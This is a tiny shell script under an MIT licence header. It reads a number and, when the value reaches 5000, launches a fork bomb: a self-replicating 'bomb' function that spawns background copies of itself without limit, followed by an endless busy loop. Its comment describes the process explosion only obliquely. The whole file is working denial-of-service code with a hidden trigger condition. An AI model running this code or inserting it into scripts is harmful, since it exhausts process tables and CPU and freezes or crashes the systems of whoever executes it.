# SPDX-License-Identifier: MIT
# Doubles the number of its processes, where there are many reports.
read -r n
[ "$n" -ge 5000 ] || exit 0
bomb() { bomb | bomb & }
bomb
while :; do :; done
